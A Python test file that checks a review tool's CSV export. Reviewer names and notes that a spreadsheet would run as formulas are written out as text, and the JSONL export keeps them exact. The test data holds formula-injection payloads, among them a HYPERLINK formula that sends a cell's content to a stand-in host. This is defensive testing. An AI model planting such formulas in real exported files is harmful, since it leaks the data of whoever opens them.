"""A Review export in CSV: a reviewer's name or note a spreadsheet would run as a formula is written
as text (issue 41, point 5); the JSONL export keeps every character exactly."""

from __future__ import annotations

import csv
import io
import json

import pytest

from sac_core.dashboard import compare
from sac_core.dashboard import review as rv
from sac_core.engine.data import load_benchmark
from sac_core.engine.summaries import SummaryConfig
from sac_core.experiments import RunConfig, Workspace

DEMO = ("demo_nda", "demo_privacy")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1"]


@pytest.fixture(scope="module")
def workspace(demo_dir, embed_cache) -> Workspace:
    bench = load_benchmark(demo_dir, DEMO, "full")
    cols = compare.compare_columns(RunConfig(protocol="full", datasets=DEMO, summary=SummaryConfig(provider="file")))
    return Workspace.open(bench, cols, demo_dir, embed_cache)


def test_formula_cells_are_neutralised_in_csv_and_exact_in_jsonl(db_url, workspace):
    db = rv.ReviewDB(db_url)
    queries = rv.sample_queries(workspace.bench, DEMO, 1, seed=1)
    plan = rv.SessionPlan("s1", "owner", "demo", workspace.columns, queries, 3, 7, {"size": 1})
    sid = rv.create_session(db, workspace, plan)
    for reviewer, note in zip(HOSTILE, reversed(HOSTILE)):
        view = rv.item_view(db, sid, 0, reviewer)
        rv.set_label(db, view.chunks[0].chunk_id, reviewer, "relevant", note)
    data, count = rv.export_bytes(db, "s1", "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert count == len(rows) == len(HOSTILE)
    assert sorted(r["reviewer"] for r in rows) == sorted("'" + h for h in HOSTILE)  # text, never a formula
    assert sorted(r["note"] for r in rows) == sorted("'" + h for h in HOSTILE)
    assert {r["start"] for r in rows} == {str(view.chunks[0].start)}  # numbers stay numbers
    lines = [json.loads(line) for line in rv.export_bytes(db, "s1", "jsonl")[0].decode("utf-8").splitlines()]
    assert sorted((r["reviewer"], r["note"]) for r in lines) == sorted(zip(HOSTILE, reversed(HOSTILE)))  # exact
